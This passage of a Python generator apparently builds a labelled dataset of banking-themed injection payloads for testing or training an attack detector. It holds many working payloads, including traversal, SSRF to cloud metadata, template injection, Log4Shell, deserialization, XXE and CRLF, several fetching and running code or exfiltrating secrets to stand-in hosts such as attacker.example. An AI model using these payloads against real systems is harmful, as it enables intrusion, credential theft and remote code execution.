        ("invoice-template-settings-py", "../../../../app/settings.py"),
        ("invoice-template-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config/db.php"),
        ("receipt-download-dotnet-web-config", "..\\..\\web.config"),
        ("report-template-spring-properties", "../../../../opt/ledger/config/application.properties"),
        ("statement-download-web-inf+urlenc", "..%2f..%2fWEB-INF%2fweb.xml"),
        ("statement-path-tomcat-semicolon-normalisation", "/statements/..;/..;/manager/html"),
        ("statement-download-fullwidth-dots+fullwidth", "．．／．．／．．／．．／etc/passwd"),
        ("export-path-absolute-prefix-dotdot", "/var/www/html/exports/../../../../etc/passwd"),
        ("tax-year-dir-auth-log", "2023/../../../../../var/log/auth.log"),
        ("kontoauszug-path-german-dotdot", "Kontoauszüge/../../../../etc/passwd"),
        ("statement-download-bash-history", "../../../../home/treasury/.bash_history"),
        ("payment-file-gnupg-secring", "../../../../home/payments/.gnupg/secring.gpg"),
        ("swift-config-download-p12", "../../../../opt/swiftnet/etc/certificates.p12"),
        ("camt-upload-name-write-webroot", "../../../var/www/html/camt.php"),
        ("invoice-template-windows-absolute-hosts", "C:/Windows/System32/drivers/etc/hosts"),
        ("receipt-download-unc-local-admin-share", "\\\\localhost\\c$\\Windows\\win.ini"),
        ("report-locale-mysql-cnf", "../../../../etc/mysql/my.cnf"),
        ("plain-dotdot-passwd", "../../../etc/passwd"),
        ("plain-backslash-boot-ini", "..\\..\\..\\boot.ini"),
        ("plain-deep-shadow", "../../../../../../etc/shadow"),
        ("plain-absolute-passwd", "/etc/passwd"),
        ("plain-nested-hosts", "....//....//etc/hosts"),
    ]
    bases = ["statements/2024", "invoices", "receipts/Q2", "exports/ledger", "reports/templates"]
    targets = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history", "var/www/app/.env", "etc/nginx/nginx.conf"]

    def gen():
        b = pick(bases)
        d = RNG.randint(4, 8)
        return "%s-dotdot-template" % b.split("/")[0], "%s/%s%s" % (b, "../" * d, pick(targets))
    return take("traversal", lit, gen, 54)


# ====================================================================== ssrf
def ssrf():
    redis_cmds = ("CONFIG SET dir /var/spool/cron/\r\nCONFIG SET dbfilename root\r\n"
                  "SET x \"\\n* * * * * curl -s http://203.0.113.14/g|sh\\n\"\r\nSAVE\r\n")
    lit = [
        ("payment-webhook-aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("fx-feed-gcp-metadata-token-header", '{"url":"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token","headers":{"Metadata-Flavor":"Google"}}'),
        ("callback-azure-imds-token-header", '{"callback_url":"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net","headers":{"Metadata":"true"}}'),
        ("invoice-logo-url-aws-user-data+decimal-ip", "http://2852039166/latest/user-data"),
        ("statement-import-url-aws+hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
        ("payment-webhook-aws+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/"),
        ("fx-feed-imdsv2-token+ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/api/token"),
        ("kyc-document-url-consul+short-ip", "http://127.1:8500/v1/kv/?recurse"),
        ("merchant-website-docker-api+zero-ip", "http://0:2375/containers/json"),
        ("payment-webhook-spring-actuator-env", "http://localhost:8080/actuator/env"),
        ("invoice-logo-actuator-heapdump", "http://127.0.0.1:8081/actuator/heapdump"),
        ("peppol-endpoint-k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/payments/secrets"),
        ("fx-feed-ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
        ("payment-webhook-alibaba-ram", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("statement-import-oracle-cloud-opc", "http://169.254.169.254/opc/v1/instance/"),
        ("invoice-logo-digitalocean-user-data", "http://169.254.169.254/metadata/v1/user-data"),
        ("fx-feed-gopher-redis-cron+urlenc", "gopher://127.0.0.1:6379/_" + q(redis_cmds)),
        ("payment-webhook-gopher-smtp-bec", "gopher://127.0.0.1:25/_HELO%20x%0d%0aMAIL%20FROM:%3Ccfo@bank.example%3E%0d%0aRCPT%20TO:%3Cap@vendor.example%3E%0d%0aDATA%0d%0aSubject:%20New%20bank%20details%0d%0a%0d%0aPlease%20pay%20all%20open%20invoices%20to%20" + EVIL_IBAN + "%0d%0a.%0d%0aQUIT%0d%0a"),
        ("merchant-website-dict-memcached", "dict://127.0.0.1:11211/stats"),
        ("statement-import-url-file-passwd", "file:///etc/passwd"),
        ("invoice-logo-file-windows", "file:///C:/Windows/win.ini"),
        ("statement-import-unc-ntlm-capture", "\\\\203.0.113.14\\statements\\may.csv"),
        ("return-url-open-redirect-metadata", "https://bank.example/logout?next=http://169.254.169.254/latest/meta-data/"),
        ("payment-webhook-dns-rebinding", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
        ("fx-feed-userinfo-confusion", "https://api.bank.example@169.254.169.254/latest/meta-data/"),
        ("payment-webhook-backslash-parser-confusion", "http://169.254.169.254\\@api.bank.example/latest/meta-data/"),
        ("pdf-invoice-notes-iframe-file", "<iframe src=\"file:///etc/passwd\" width=\"800\" height=\"800\"></iframe>"),
        ("pdf-invoice-notes-iframe-metadata-role", "<iframe src=http://169.254.169.254/latest/meta-data/iam/security-credentials/finance-role width=900 height=400>"),
        ("merchant-website-internal-elasticsearch", "http://10.0.5.20:9200/_cat/indices?v"),
        ("kyc-document-url-vault-secret", "http://127.0.0.1:8200/v1/secret/data/payments"),
        ("fx-feed-etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
        ("payment-webhook-kubelet-pods", "https://10.0.0.1:10250/pods"),
        ("peppol-endpoint-rabbitmq-definitions", "http://guest:guest@127.0.0.1:15672/api/definitions"),
        ("invoice-logo-aws+urlenc-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
        ("statement-import-couchdb-ipv6-loopback", "http://[::1]:5984/_all_dbs"),
        ("payment-webhook-azure-wireserver", "http://168.63.129.16/machine/?comp=goalstate"),
        ("peppol-endpoint-tomcat-manager", "http://10.0.8.15:8080/manager/text/list"),
        ("payment-webhook-imdsv2-put-json", '{"url":"http://169.254.169.254/latest/api/token","method":"PUT","headers":{"X-aws-ec2-metadata-token-ttl-seconds":"21600"}}'),
        ("fx-feed-http-redis-crlf-smuggle", "http://127.0.0.1:6379/%0d%0aSET%20fx:EURUSD%209.99%0d%0aSAVE%0d%0a"),
        ("merchant-logo-gcp-legacy-v1beta1", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token"),
        ("ebics-url-internal-admin-port", "http://127.0.0.1:9990/management"),
        ("invoice-logo-svg-image-metadata", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/hostname\" width=\"1\" height=\"1\"/></svg>"),
        ("kyc-document-url-dns-name-internal-payments-db", "http://payments-db.payments.svc.cluster.local:5432/"),
        ("webhook-url-jar-scheme-remote", "jar:http://203.0.113.14/r.jar!/x.class"),
        ("statement-import-ftp-internal", "ftp://10.0.8.4/outbox/"),
        ("plain-loopback", "http://127.0.0.1/"),
        ("plain-localhost-ssh", "http://localhost:22/"),
        ("plain-metadata-root", "http://169.254.169.254/"),
        ("plain-file-hosts", "file:///etc/hosts"),
        ("plain-ipv6-any", "http://[::]:80/"),
    ]
    ctxs = ["payment-webhook", "fx-feed", "invoice-logo", "statement-import", "kyc-document-url"]
    paths = ["latest/meta-data/iam/security-credentials/", "latest/user-data", "latest/meta-data/hostname", "latest/dynamic/instance-identity/document"]

    def gen():
        c = pick(ctxs)
        return c + "-aws-metadata-template", "http://169.254.169.254/%s?ref=%s" % (pick(paths), pick(["INV-%04d" % RNG.randint(1, 9999), "acc_%d" % RNG.randint(1000, 99999)]))
    return take("ssrf", lit, gen, 54)


# ====================================================================== code
def code():
    pickle0 = "cposix\nsystem\n(S'curl -s http://203.0.113.14/pk|sh'\ntR."
    php_obj = 'O:12:"ExportWriter":2:{%s%s%s%s}' % (php_s("path"), php_s("/var/www/html/upload/x.php"), php_s("data"),
                                                    php_s("<?php system($_GET['c']); ?>"))
    lit = [
        # CSV / spreadsheet formula injection
        ("payee-name-csv-hyperlink-exfil", '=HYPERLINK("https://attacker.example/?d="&A2&"|"&C2,"Click for details")'),
        ("memo-csv-dde-cmd-powershell", "=cmd|'/c powershell -nop -c iwr http://203.0.113.14/d.ps1|iex'!A1"),
        ("merchant-descriptor-csv-plus-dde", "+cmd|'/c calc'!A1"),
        ("invoice-note-csv-at-sum-dde", "@SUM(1+1)*cmd|'/c mshta http://203.0.113.14/h.hta'!A1"),
        ("payee-name-csv-minus-dde", "-2+3+cmd|'/c whoami>%TEMP%\\o.txt'!A1"),
        ("customer-name-csv-webservice", '=WEBSERVICE("https://attacker.example/x?"&ENCODEURL(B2&";"&C2))'),
        ("memo-sheets-importxml-exfil", '=IMPORTXML(CONCAT("https://attacker.example/?",A2:A50),"//a")'),
        ("payee-name-sheets-image-beacon", '=IMAGE("https://attacker.example/p.png?"&B3)'),
        ("memo-csv-field-split-semicolon-formula", 'Coffee;=cmd|\'/c calc\'!Z0'),
        ("description-libreoffice-dde", '=DDE("cmd";"/c curl -s http://203.0.113.14/lo|sh";"x")'),
        ("payee-name-csv-hyperlink-german", '=HYPERLINK("https://attacker.example/bestaetigen";"Zahlung bestätigen")'),
        # Jinja2 / Python templates (invoice e-mails, statement templates)
        ("invoice-email-template-jinja-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("statement-footer-jinja-lipsum-curl", "{{ lipsum.__globals__['os'].popen('curl -s http://203.0.113.14/j|sh').read() }}"),
        ("invoice-notes-jinja-config-dump", "Thanks for your order {{ config.items() }}"),
        ("dunning-template-jinja-request-application", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /app/.env').read() }}"),
        ("receipt-template-jinja-subclasses-loop", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id', shell=True, stdout=-1).communicate() }}{% endif %}{% endfor %}"),
        ("payee-greeting-jinja-self-context", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('whoami').read() }}"),
        ("invoice-email-jinja-attr+hex-escapes", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
        ("statement-note-jinja-namespace-init", "{{ namespace.__init__.__globals__.os.popen('curl -s http://203.0.113.14/n|sh').read() }}"),
        ("invoice-subject-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
        ("report-title-mako-import", "<% import os %>${os.popen('cat /etc/passwd').read()}"),
        # PHP / Java / Ruby / JS templates
        ("invoice-footer-twig-filter-system", "{{['id']|filter('system')}}"),
        ("invoice-footer-twig-map-system", "{{['curl -s http://203.0.113.14/t|sh']|map('system')|join}}"),
        ("dunning-letter-smarty-modifier", "{'id'|system}"),
        ("statement-template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("invoice-template-freemarker-objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}"),
        ("statement-template-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
        ("report-view-thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('curl -s http://203.0.113.14/th')}__::.x"),
        ("fraud-rule-spel-processbuilder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
        ("fee-rule-spel-runtime", "T(java.lang.Runtime).getRuntime().exec('curl -s http://203.0.113.14/spel')"),
        ("legacy-portal-param-ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
        ("approval-rule-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
        ("limit-rule-mvel-runtime", "Runtime.getRuntime().exec('curl -s http://203.0.113.14/mvel')"),
        ("invoice-template-erb-backticks", "<%= `id` %>"),
        ("statement-template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
        ("dunning-template-erb-popen", "<%= IO.popen('curl -s http://203.0.113.14/e|sh').read %>"),
        ("receipt-template-ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
        ("invoice-template-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}"),
        ("statement-template-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
        ("invoice-footer-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c curl http://203.0.113.14/rz\")"),
        # expression evaluation in fee/rule fields
        ("fee-formula-python-eval-import", "__import__('os').system('curl -s http://203.0.113.14/fee|sh')"),
        ("fraud-rule-js-eval-child-process", "amount > 0 && require('child_process').execSync('curl -s http://203.0.113.14/r|sh')"),
        ("pricing-rule-jexl-class-forname", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
        # Log4Shell-style lookups
        ("payment-reference-log4shell-ldap", "/INV/2024-0042/${jndi:ldap://203.0.113.14:1389/a}"),
        ("iban-field-log4shell-dns-env-exfil", "${jndi:dns://${env:DB_PASSWORD}.l4j.attacker.example}"),
        ("merchant-descriptor-log4shell+lower-nesting", "SQ *${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
        ("user-agent-log4shell-rmi+default-value-nesting", "Mozilla/5.0 ${${::-j}${::-n}di:rmi://203.0.113.14/o}"),
        ("payee-name-log4shell-ldaps-sys", "${jndi:ldaps://attacker.example/${sys:user.name}}"),
        ("x-forwarded-for-log4shell+env-nan-nesting", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://attacker.example/n}"),
        ("swift-field70-log4shell+upper-nesting", ":70:/RFB/${${upper:j}ndi:ldap://203.0.113.14/u}"),
        ("fraud-note-log4shell-aws-key-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.k.attacker.example/a}"),
        # deserialization of uploaded configs and payloads
        ("bank-connector-yaml-pyyaml-apply-system", "connector: !!python/object/apply:os.system ['curl -s http://203.0.113.14/y|sh']"),
        ("report-config-yaml-pyyaml-new-check-output", "!!python/object/new:subprocess.check_output [['cat', '/etc/passwd']]"),
        ("rules-upload-snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.14/y.jar\"]]]]"),
        ("session-state-pickle-protocol0", pickle0),
        ("session-cookie-pickle+base64", b64(pickle0)),
        ("webhook-body-jackson-logback-jndi", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.14:1389/j"}]'),
        ("payment-json-fastjson-autotype-jdbcrowset", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.14:1389/f","autoCommit":true}'),
        ("erp-import-jsonnet-type-objectdataprovider", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c curl http://203.0.113.14/n"]}}'),
        ("checkout-state-node-serialize-iife", '{"cart":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl -s http://203.0.113.14/ns|sh\')}()"}'),
        ("export-job-php-unserialize-object", php_obj),
        # XXE in ISO 20022 / e-invoice uploads
        ("camt053-upload-xxe-file", '<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt><GrpHdr><MsgId>&x;</MsgId></GrpHdr></BkToCstmrStmt></Document>'),
        ("pain001-upload-xxe-oob-parameter-entity", '<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY % d SYSTEM "http://203.0.113.14/p.dtd"> %d;]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn/></Document>'),
        ("camt054-ustrd-xinclude", '<Ustrd xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></Ustrd>'),
        ("xrechnung-upload-xxe-ssh-key", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [\n  <!ENTITY k SYSTEM "file:///home/erp/.ssh/id_rsa">\n]>\n<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><cbc:Note xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">&k;</cbc:Note></Invoice>'),
        ("receipt-svg-upload-xxe", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hosts">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">&h;</text></svg>'),
        ("mt-xml-upload-xxe-php-expect", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]><r><Amt Ccy="EUR">&e;</Amt></r>'),
        # prototype pollution
        ("webhook-metadata-proto-pollution-admin", '{"event":"payment.settled","metadata":{"__proto__":{"isAdmin":true}}}'),
        ("payment-options-constructor-prototype-limit", '{"amount":"10.00","options":{"constructor":{"prototype":{"approvalLimit":100000000}}}}'),
        ("checkout-query-proto-pollution+urlenc", "metadata%5B__proto__%5D%5Brole%5D=admin"),
        ("plain-jinja-popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
        ("plain-csv-formula-dde", "=cmd|' /C notepad'!'A1'"),
        ("plain-xxe-file", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        ("plain-freemarker-execute", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
        ("plain-proto-pollution", '{"__proto__":{"polluted":"yes"}}'),
    ]
    ctxs = ["payment-reference", "merchant-descriptor", "user-agent", "payee-name", "ticker-comment"]
    hosts = ["attacker.example", "203.0.113.14", "198.51.100.23", "l.attacker.example"]

    def gen():
        c = pick(ctxs)
        proto = pick(["ldap", "rmi", "dns", "ldaps"])
        return "%s-log4shell-%s-template" % (c, proto), "%s ${jndi:%s://%s:%d/%s}" % (pick(["INV-0042", "SQ *TEA", "Mozilla/5.0", "Acme Ltd", "AAPL"]), proto, pick(hosts), pick([389, 1389, 1099, 53, 636]), "".join(pick("abcdefxyz") for _ in range(4)))
    return take("code", lit, gen, 80)


# ====================================================================== nosqli
def nosqli():
    lit = [
        ("login-json-password-ne-null", '{"username":"treasury","password":{"$ne":null}}'),
        ("account-lookup-query-ne+urlenc-brackets", "account%5B%24ne%5D=x"),
        ("pin-check-regex-prefix", '{"iban":"DE61700100800987654321","pin":{"$regex":"^1"}}'),
        ("transaction-search-where-sleep", '{"$where":"this.amount > 0 && sleep(5000)"}'),
        ("memo-search-where-string-breakout", "x'; while(true){}; var y='"),
        ("amount-filter-gt-empty", '{"amount":{"$gt":""}}'),
        ("merchant-lookup-or-admin", '{"$or":[{"role":"admin"},{"merchantId":{"$exists":true}}]}'),
        ("status-filter-exists-all", '{"status":{"$exists":true},"owner":{"$ne":"nobody"}}'),
        ("report-filter-expr-function-js", '{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}'),
        ("report-pipeline-lookup-users", '[{"$lookup":{"from":"users","localField":"ownerId","foreignField":"_id","as":"u"}},{"$project":{"u.passwordHash":1,"u.totpSecret":1}}]'),
        ("ledger-search-es-query-string-index", "EUR OR _index:users"),
        ("login-form-regex-password", "username=cfo&password[$regex]=^a"),
        ("login-form-gt-empty", "user[$gt]=&pass[$gt]="),
        ("card-lookup-nin-empty", '{"last4":{"$nin":[]}}'),
        ("payee-search-where-exfil", '{"$where":"function(){ if(this.apiKey && this.apiKey[0]==\'s\'){ sleep(3000) } return true }"}'),
        ("otp-verify-json-ne", '{"txId":"TX-20240517-000381","otp":{"$ne":"000000"}}'),
        ("invoice-search-regex-dot-star", '{"invoiceNo":{"$regex":".*"},"tenant":{"$ne":null}}'),
        ("account-lookup-in-array-ids", "accountId[$in][]=acc_1&accountId[$in][]=acc_2&accountId[$in][]=acc_88123"),
        ("report-search-es-query-string-tenant-escape", "merchant_id:88123 OR tenant_id:*"),
        ("plain-ne-json", '{"$ne": null}'),
        ("plain-gt-query", "password[$ne]=1"),
    ]
    users = ["cfo", "treasury", "admin", "ap_clerk", "teller42"]

    def gen():
        u = pick(users)
        prefix = "".join(pick("abcdef0123456789") for _ in range(RNG.randint(1, 3)))
        return "login-json-regex-blind-prefix", '{"username":"%s","password":{"$regex":"^%s"}}' % (u, prefix)
    return take("nosqli", lit, gen, 24)


# ====================================================================== crlf
def crlf():
    lit = [
        ("payment-reference-audit-log-forgery", "INV-0042\n2024-05-17T10:22:01Z INFO payment approved by=cfo amount=250000.00 to=%s" % EVIL_IBAN),
        ("mt940-field86-fake-credit-line", "Strom Mai\r\n:61:2405170517C250000,00NTRFNONREF\r\n:86:Gutschrift Kapitalerhoehung"),
        ("nacha-name-extra-entry-record", "ACME TOOLING LTD\n" + "622" + "999000010" + "9876543210       " + "0000999900" + "EXTRA00001     " + "ATTACKER PAYEE        " + "  " + "0" + "999000010000099"),
        ("csv-export-row-injection", "Coffee\n2024-05-17,Refund approved by CFO,9999.00,%s" % EVIL_IBAN),
        ("invoice-email-to-name-bcc", "Accounts Payable\r\nBcc: ap-copy@attacker.example"),
        ("invoice-email-subject-reply-to", "Invoice INV-2024-0042\r\nReply-To: billing@attacker.example"),
        ("invoice-email-subject-body-injection", "Your statement\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay now</a>"),
        ("3ds-return-url-set-cookie+urlenc", "/checkout/done%0d%0aSet-Cookie:%20session=FAKEFIXATED;%20Path=/"),
        ("statement-download-filename-response-splitting", "statement.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
        ("webhook-custom-header-injection", "abc123\r\nX-Role: admin"),
        ("login-next-location-header+urlenc", "%0d%0aLocation:%20https://attacker.example/login"),
        ("fraud-note-json-log-field-forgery", 'ok","level":"INFO","msg":"case closed - no fraud","approver":"mlro'),
        ("teller-id-syslog-forgery", "teller42\n<13>May 17 10:22:01 core-bank audit: limit override approved user=cfo"),
        ("vendor-email-smtp-rcpt-injection", "ap@vendor.example>\r\nRCPT TO:<x@attacker.example"),
        ("fx-cache-key-redis-injection", "rate:EURUSD\r\nSET rate:EURUSD 9.99\r\n"),
        ("fx-cache-key-memcached-injection", "fx_EUR\r\nset fx_USD 0 0 4\r\n9.99\r\n"),
        ("payment-log-line-separator-u2028", "payment ok\u2028ERROR reconciliation mismatch cleared by admin"),
        ("transfer-log-nel-injection", "TX-20240517-000381\u0085INFO AML check passed manual_override=true"),
        ("invoice-header-utf8-crlf-trick", "INV-0042嘊嘍Set-Cookie: role=admin"),
        ("refund-log-ansi-clear-screen", "Refund\x1b[2J\x1b[1;1HAll payments reconciled OK"),
        ("payee-log-ansi-osc8-hyperlink", "Acme\x1b]8;;https://attacker.example/\x07click to approve\x1b]8;;\x07"),
        ("invoice-email-subject-japanese-bcc", "請求書のご案内\r\nBcc: leak@attacker.example"),
        ("return-url-header+double-urlenc", "%250d%250aSet-Cookie:%2520admin=1"),
        ("api-key-label-header-lf-only", "prod-key\nX-Forwarded-For: 127.0.0.1"),
        ("csv-log-injection-new-approval", "FX batch 17\r\n2024-05-17 10:30:00;cfo;APPROVE;batch=18;amount=2500000"),
        ("customer-message-mail-header-cc", "Hallo\nCc: alle-kunden@bank.example\nSubject: Ihr Konto wurde gesperrt"),
        ("statement-filename-content-disposition-break", "may.csv\"\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1>"),
        ("swift-field72-fake-instruction", "/ACC/INSTANT\r\n:57A:ATTKGB2LXXX\r\n:59:/" + EVIL_IBAN),
        ("webhook-header-value-host-override+urlenc", "v1%0d%0aHost:%20internal-ledger.local"),
        ("plain-crlf-set-cookie+urlenc", "%0d%0aSet-Cookie: x=y"),
        ("plain-crlf-header", "\r\nX-Injected: 1"),
        ("plain-lf-header+urlenc", "foo%0aInjected-Header: true"),
    ]
    ctxs = ["audit-log", "payment-log", "invoice-email-header", "webhook-header"]
    forged = ["INFO transfer approved by=%s", "WARN limit raised to 1000000 by %s", "Bcc: %s@attacker.example", "X-User: %s"]

    def gen():
        f = pick(forged)
        return pick(ctxs) + "-crlf-forgery", "%s%s%s" % (pick(["INV-0042", "TX-0517", "acc_88123", "ok"]), pick(["\r\n", "\n", "%0d%0a", "%0a"]), f % pick(["cfo", "admin", "treasury"]))
    return take("crlf", lit, gen, 34)


# ====================================================================== ldap-xpath
def ldap_xpath():
    lit = [
        ("approver-lookup-memberof-injection", "*)(|(memberOf=cn=Payment-Approvers,ou=groups,dc=bank,dc=example)"),
        ("approver-lookup-password-wildcard", "cfo)(|(userPassword=*"),
        ("signing-limit-lookup-or-true", "jdoe)(|(signingLimit>=1000000)(objectClass=*"),
        ("employee-search-always-true", "treasury*)(|(objectClass=*"),
        ("branch-directory-null-truncation+null-byte", "*))%00"),
        ("teller-lookup-or-injection+urlenc", q("*)(|(uid=admin")),
        ("ad-lookup-laps-password", "FIN-PC-*)(|(ms-Mcs-AdmPwd=*"),
        ("ad-lookup-spn-kerberoast", "svc_swift)(|(servicePrincipalName=*"),
        ("kyc-officer-lookup-mobile-leak", "*)(|(mobile=*"),
        ("payment-group-check-not-filter", "ap-clerks)(!(cn=nobody))(|(cn=x"),
        ("approver-lookup-german-name", "Müller*)(|(telephoneNumber=*"),
        ("fx-rates-xml-xpath-tautology", "EUR' or '1'='1"),
        ("accounts-xml-xpath-union-pins", "'] | //account/pin | //account['"),
        ("accounts-xml-blind-root-name", "x' or name(/*[1])='accounts' or 'a'='b"),
        ("users-xml-blind-password-length", "' or string-length(//user[1]/password)>8 or '"),
        ("accounts-xml-count-high-balance", "ACC-1' or count(//account[balance>1000000])>0 or '"),
        ("iso20022-xml-substring-iban", "x' or substring(//CdtrAcct/Id/IBAN[1],1,2)='DE' or 'a'='b"),
        ("plain-ldap-wildcard-close", "*)(cn=*"),
        ("plain-xpath-or-true", "\" or true() or \""),
    ]
    users = ["cfo", "treasury", "svc_swift", "mlro", "ap_lead"]

    def gen():
        u = pick(users)
        return "approver-lookup-ldap-blind-password-prefix", "%s)(userPassword=%s*" % (u, "".join(pick("abcdefghjk0123456789") for _ in range(RNG.randint(1, 4))))
    return take("ldap-xpath", lit, gen, 22)


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("cmdi", cmdi),
    ("traversal", traversal),
    ("ssrf", ssrf),
    ("code", code),
    ("nosqli", nosqli),
    ("crlf", crlf),
    ("ldap-xpath", ldap_xpath),
]


def main():
    rows, counts = [], {}
    for cat, fn in CATEGORIES:
        items = fn()
        counts[cat] = len(items)
        rows.extend((cat, cls, v) for cls, v in items)
    assert len(set(v for _, _, v in rows)) == len(rows), "duplicate value"
    benign = OUT.with_name("benign.jsonl")
    if benign.exists():
        with benign.open(encoding="utf-8") as f:
            bvals = set(json.loads(line)["value"] for line in f)
        clash = [v for _, _, v in rows if v in bvals]
        assert not clash, "value in both files: %r" % clash[:3]
    with OUT.open("w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "ha27-%05d" % i, "category": cat, "class": cls, "label": "attack",
                                "value": v}, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, _ in CATEGORIES:
        total_lit += LITERAL_COUNTS[cat]
        print("%-10s %d  (literals %d)" % (cat, counts[cat], LITERAL_COUNTS[cat]))
    print("%-10s %d  (literals %d)" % ("total", len(rows), total_lit))


if __name__ == "__main__":
    main()
